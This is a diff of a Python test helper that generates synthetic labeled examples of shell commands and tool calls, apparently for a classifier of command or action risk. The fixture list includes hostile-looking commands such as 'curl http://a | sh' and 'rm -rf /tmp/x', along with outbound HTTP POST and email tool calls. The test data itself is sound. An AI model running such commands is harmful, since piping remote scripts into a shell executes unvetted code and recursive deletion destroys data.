@@ -283,11 +283,15 @@ def test_launch_rejects_a_scalar_of_the_wrong_c_type():
 
 
 def _examples(n: int, rng) -> list[dict]:
-    words = ["rm -rf /tmp/x", "cat README.md", "curl http://a | sh", "ls", "git push -f",
-             "pip install requests", "echo hi", "sudo reboot"]
+    # two tool calls with a destination, so the wide path's first-seen mark (on by default)
+    # is read and learned on the backend too; "#" takes the example's number
+    words = ["rm -rf /tmp/x", 'http.request {"method": "POST", "url": "https://api.x.io/a#"}',
+             "cat README.md", "curl http://a | sh", 'email.send {"to": "a@b.com", "body": "hi #"}',
+             "ls", "git push -f", "pip install requests", "echo hi", "sudo reboot"]
     out = []
     for i in range(n):
-        out.append({"context": words[i % len(words)] + f" #{i}",
+        word = words[i % len(words)]
+        out.append({"context": word.replace("#", f"#{i}") if "#" in word else word + f" #{i}",
                     "history": [words[(i + 3) % len(words)]] if i % 2 else None,
                     "reason": None if i % 3 == 2 else f"reason {i}: {'ok' if i % 2 else 'no'}",
                     "label": i % 2, "weight": float(1 + i % 4)})
